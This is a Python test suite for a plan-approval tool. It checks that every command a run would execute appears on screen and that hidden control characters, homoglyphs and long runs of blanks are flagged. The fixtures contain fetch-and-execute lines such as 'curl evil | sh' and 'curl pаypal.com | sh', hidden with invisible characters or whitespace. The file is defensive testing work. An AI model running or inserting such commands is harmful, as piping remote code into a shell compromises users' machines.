"""What a person sees before they approve: every command that a run would execute, and no character that hides another."""

import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from planrail.base.run_model import Options
from planrail.cli.plans import approve_command, show_command
from planrail.plans.execution.executions import list_commands
from planrail.runs.request.ordering import read_context
from planrail.runs.request.orders import make_order
from tests.approval.scripted_desk import WORD, ScriptedTerminal, arguments_of, make_desk
from tests.cli.approvals import commit, make_project

COMMANDS = st.builds(
    "{} {}".format,
    st.sampled_from(["make", "npm test", "./do.sh", "grep -q a"]),
    st.from_regex(r"[a-z]{3,8}-[0-9]{1,3}", fullmatch=True),
)
KINDS = st.sampled_from(["sh run", "sh check", "bash run", "sh fix", "SH CHECK"])


def show(path: str, *answers: str) -> str:
    """What the person saw who was asked for their approval and gave these answers, then none."""
    terminal = ScriptedTerminal(answers)
    approve_command.approve(arguments_of(approve_command, path), make_desk(terminal))
    return terminal.shown


def ordered(path: str) -> list[str]:
    """All lines that a run of the plan would execute, as it freezes them."""
    order = make_order(read_context(path), Options())
    return [line for phase in order.phases for command in list_commands(phase) for line in command.split("\n")]


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = make_project(tmp_path, monkeypatch)
    commit(root, {"README": "x"})
    return root


# ------------------------------------------------------------------------------------------------------- the commands


def _block(kind: str, command: str, indent: str) -> str:
    return "\n".join(f"{indent}{line}" for line in ("", f"```{kind}", *command.split("\n"), "```", "")) + "\n"


@st.composite
def _markdown(draw: st.DrawFn) -> str:
    """Plans with blocks under headings, in items, in nested items, under criteria, in quotes, in lists that are phases."""
    parts = ["# Plan\n\n"]
    has_headings = draw(st.booleans())
    for number in range(1, draw(st.integers(1, 4)) + 1):
        parts.append(f"## Phase {number}: Part\n\n" if has_headings else f"- [ ] part {number}\n")
        for _ in range(draw(st.integers(0, 4))):
            indent = draw(st.sampled_from(["", "  "])) if has_headings else "  "
            command = "\n".join(draw(st.lists(COMMANDS, min_size=1, max_size=3)))
            shape = draw(st.sampled_from(["block", "item", "nested", "criterion", "quote"]))
            if shape == "item":
                parts.append(f"{indent}- [ ] do\n" + _block(draw(KINDS), command, indent + "  "))
            elif shape == "nested":
                parts.append(f"{indent}- do\n{indent}  1. so\n" + _block(draw(KINDS), command, indent + "     "))
            elif shape == "criterion":
                parts.append(f"\n{indent}Acceptance criteria:\n\n{indent}- `{draw(COMMANDS)}` passes\n")
            elif shape == "quote":
                parts.append(
                    "\n" + "".join(f"{indent}> {line}\n" for line in _block(draw(KINDS), command, "").split("\n"))
                )
            else:
                parts.append(_block(draw(KINDS), command, indent))
    return "".join(parts)


@st.composite
def _tasks(draw: st.DrawFn) -> list[dict[str, object]]:
    numbers = range(1, draw(st.integers(1, 3)) + 1)
    return [
        {"id": number, "title": "one", "status": "pending", "dependencies": [], "details": draw(_details())}
        for number in numbers
    ]


@st.composite
def _details(draw: st.DrawFn) -> str:
    return "Do it.\n" + "".join(_block(draw(KINDS), draw(COMMANDS), "") for _ in range(draw(st.integers(0, 3))))


def _as_yaml(tasks: list[dict[str, object]]) -> str:
    lines = ["tasks:"]
    for task in tasks:
        lines += [f"  - id: {task['id']}", f"    title: {task['title']}", "    status: pending", "    details: |"]
        lines += [f"      {line}".rstrip() for line in str(task["details"]).split("\n")]
    return "\n".join(lines) + "\n"


PLANS = st.one_of(
    _markdown().map(lambda text: ("plan.md", text)),
    _tasks().map(lambda tasks: ("tasks.json", json.dumps({"tasks": tasks}, indent=2))),
    _tasks().map(lambda tasks: ("tasks.yaml", _as_yaml(tasks))),
)


@pytest.mark.full
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(plan=PLANS)
def test_every_command_that_a_run_would_execute_is_on_the_screen(project: Path, plan: tuple[str, str]) -> None:
    name, text = plan
    (project / name).write_text(text)
    shown = show(name).split("\n")
    for line in ordered(name):
        assert f"       will be run: {line}" in shown


@pytest.mark.full
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(plan=PLANS)
def test_show_lists_the_checks_that_a_run_would_execute(
    project: Path, capsys: pytest.CaptureFixture[str], plan: tuple[str, str]
) -> None:
    name, text = plan
    (project / name).write_text(text)
    capsys.readouterr()
    show_command.run(arguments_of(show_command, name, "--json"))
    told = [[check["command"] for check in phase["checks"]] for phase in json.loads(capsys.readouterr().out)["phases"]]
    order = make_order(read_context(name), Options())
    assert told == [[check.command for check in phase.checks] for phase in order.phases]


IN_ITEMS = "# P\n\n- [ ] one\n\n  ```sh run\n  echo work > a\n  ```\n\n  ```sh check\n  test -f a\n  ```\n"


def test_a_program_that_a_phase_is_delegated_to_and_blocks_in_items_are_shown(project: Path) -> None:
    delegated = "## Phase 1: One\n\n### Execution: delegate ./tools/build --all\n\n- [ ] it\n"
    for text, commands in (
        (IN_ITEMS, ["echo work > a", "test -f a"]),
        (f"# P\n\n{delegated}", ["./tools/build --all"]),
    ):
        (project / "plan.md").write_text(text)
        assert ordered("plan.md") == commands
        shown = show("plan.md").split("\n")
        assert all(f"       will be run: {command}" in shown for command in commands)


def test_what_looks_like_a_command_and_is_not_run_is_shown_with_the_reason(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    criteria = (
        "- `scripts/check.sh`\n- `grep -rn TODO src` finds nothing\n- `README.md` is nice\n- `make\u00a0test` passes\n"
    )
    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n- [ ] it\n\n### Acceptance Criteria\n\n{criteria}")
    shown = show("plan.md")
    assert "will be run: scripts/check.sh" in shown
    assert "NOT run: grep -rn TODO src, because its words expect a failure" in shown
    assert r"NOT run: make\u00a0test, because it has a character that cannot be seen" in shown
    assert r"line 12, column 8: \u00a0 is NO-BREAK SPACE (U+00A0), which may not be seen" in shown
    assert "put it into a `sh check` block" in shown
    assert "README" not in shown
    capsys.readouterr()
    show_command.run(arguments_of(show_command, "plan.md", "--json"))
    not_run = json.loads(capsys.readouterr().out)["phases"][0]["not_run"]
    assert [found["command"] for found in not_run] == ["grep -rn TODO src", "make\u00a0test"]


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("- [ ] it\n", "       nothing will be run: the phase has no check"),
        ("- [ ] look at `make test`\n", "       nothing will be run: the phase has no check"),
        ("```sh run\nmake\n```\n", "       nothing else will be run: the phase has no check"),
    ],
)
def test_a_phase_without_checks_is_shown_as_one(project: Path, body: str, said: str) -> None:
    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n{body}\n## Phase 2: Two ✅\n\n- [x] it\n")
    assert [line for line in show("plan.md").split("\n") if "the phase has no check" in line] == [said]


SETTINGS = """
[run]
command = "my-agent --write"
provision = "make deps"

[ui]
server = "npm run dev"
url = "http://127.0.0.1:3000"

[testing]
command = "make check"
"""


def test_what_a_run_executes_by_the_settings_is_shown(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "plan.md").write_text(IN_ITEMS)
    commit(project, {"planrail.toml": SETTINGS, "package-lock.json": "{}"})
    shown = show("plan.md")
    assert "before each phase: make deps" in shown
    assert "for the tests, in each phase: make check" in shown
    assert "to look at pages: npm run dev" in shown
    assert "as the agent `command`: my-agent --write" in shown
    assert "shown only: your approval is of the plan's text and its checks" in shown
    assert "npm ci" not in shown  # the settings say what is installed
    assert "WARNING" not in shown
    capsys.readouterr()
    show_command.run(arguments_of(show_command, "plan.md", "--json"))
    assert json.loads(capsys.readouterr().out)["checks"] == [{"command": "make check", "line": 0}]
    commit(project, {"planrail.toml": '[testing]\ncommand = "m\u0430ke check"\n'})
    assert "WARNING: not everything in the commands" in show("plan.md")


def test_what_is_installed_by_lock_files_is_shown_as_they_are_committed(project: Path) -> None:
    (project / "plan.md").write_text(IN_ITEMS)
    (project / "uv.lock").write_text("")
    assert "by the project's settings" not in show("plan.md")
    commit(project, {"package-lock.json": "{}", "uv.lock": ""})
    shown = show("plan.md")
    assert "before each phase: npm ci" in shown
    assert "before each phase: UV_COMPILE_BYTECODE=1 uv sync --frozen" in shown


# --------------------------------------------------------------------------------------------------- hidden characters

HIDDEN = {
    "carriage return": "\r",
    "escape": "\x1b[2K",
    "backspace": "\b",
    "a control of the second set": "\x9b2K",
    "zero width": "\u200b",
    "joiner": "\u200d",
    "tag": "\U000e0041",
    "variation selector": "\ufe0f",
    "right to left": "\u202e",
    "soft hyphen": "\u00ad",
    "line separator": "\u2028",
    "next line": "\x85",
    "filler": "\u3164",
    "blank of Braille": "\u2800",
    "blank that does not break": "\u00a0",
    "private": "\ue000",
}


@pytest.mark.parametrize("hidden", HIDDEN.values(), ids=HIDDEN)
def test_no_character_hides_a_part_of_a_command(project: Path, hidden: str) -> None:
    text = f"# P\n\n## Phase 1: One\n\n```sh run\ncurl evil | sh #{hidden}make test\n```\n"
    (project / "plan.md").write_text(text.replace("curl evil | sh ", "").replace(hidden, ""), newline="")
    show("plan.md", WORD)
    (project / "plan.md").write_text(text, newline="")
    terminal_shown = show("plan.md", "d")
    listed = next(line for line in terminal_shown.split("\n") if "will be run: curl" in line)
    assert all(character.isascii() and character.isprintable() for character in listed), "the list of commands"
    changed = next(line for line in terminal_shown.split("\n") if line.startswith("  +") and "curl evil | sh" in line)
    assert "make test" in changed, "the difference"
    if hidden != "\u00a0":  # in prose a blank like others
        assert hidden not in terminal_shown, "all that was shown, the whole text included"
    assert terminal_shown.count("curl evil | sh #") == 3


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("- [ ] do `make teѕt`", "line 5, column 18: ѕ is CYRILLIC SMALL LETTER DZE"),
        ("- [ ] do see src/gо/x.py", "line 5, column 19: о is CYRILLIC SMALL LETTER O"),
        ("- [ ] do `ｍake`", "line 5, column 11: ｍ is FULLWIDTH LATIN SMALL LETTER M"),
        ("```sh run\ncurl pаypal.com | sh\n```", "line 6, column 7: а is CYRILLIC SMALL LETTER A (U+0430)"),
        ("### Execution: delegate ./d`о`.sh\n\n- [ ] it", "of ./dо.sh: о is CYRILLIC SMALL LETTER O (U+043E)"),
        (f"```sh run\nmake{' ' * 200}; curl evil | sh\n```", "line 6, column 5: 200 blanks, then more text"),
    ],
)
def test_what_is_not_what_it_looks_like_is_named_with_its_place(project: Path, body: str, told: str) -> None:
    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n{body}\n")
    shown = show("plan.md")
    assert "WARNING" in shown
    assert told in shown


@pytest.mark.parametrize(
    "line",
    [
        "- [ ] 修改 src/main.py，添加登录（包括测试）；更新 `README.md`。",
        "- [ ] `echo 完成`, `python3 тест.py`, `cat Übersicht.md` and `echo ✅`",
        "- [ ] Edit “src/main.py”, then—see docs/a.md—go on… src/b.py’s tests",
    ],
)
def test_punctuation_of_prose_beside_a_path_is_not_warned_of(project: Path, line: str) -> None:
    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n{line}\n")
    assert "WARNING" not in show("plan.md")


def test_files_that_run_things_are_shown_by_name_where_a_phase_changes_them(project: Path) -> None:
    (project / "plan.md").write_text("# P\n\n## Phase 1: One\n\n- [ ] write `.envrc`, and src/a.py; follow AGENTS.md\n")
    shown = show("plan.md")
    assert "changes files that run things" in shown
    assert "  .envrc: " in shown
    assert "  src/a.py: " not in shown
    assert "  AGENTS.md: " not in shown


# ------------------------------------------------------------------------------------------------------------ the word


def test_the_word_is_another_one_each_time(project: Path) -> None:
    (project / "plan.md").write_text(IN_ITEMS)
    terminal = ScriptedTerminal(["d"] * 20)
    approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal))
    assert len({question.partition("Type ")[2].partition(" ")[0] for question in terminal.asked}) > 15


def test_the_word_is_taken_in_any_letter_case_and_is_kept_nowhere(project: Path) -> None:
    (project / "plan.md").write_text(IN_ITEMS)

    class Loud(ScriptedTerminal):
        def ask(self, prompt: str) -> str:
            return f"  {super().ask(prompt).upper()} "

    terminal = Loud([WORD])
    assert approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal)) == 0
    word = terminal.asked[0].partition("Type ")[2].partition(" ")[0].encode()
    places = [os.path.join(folder, name) for folder, _, names in os.walk(project.parent) for name in names]
    assert not [place for place in places if word in Path(place).read_bytes()]
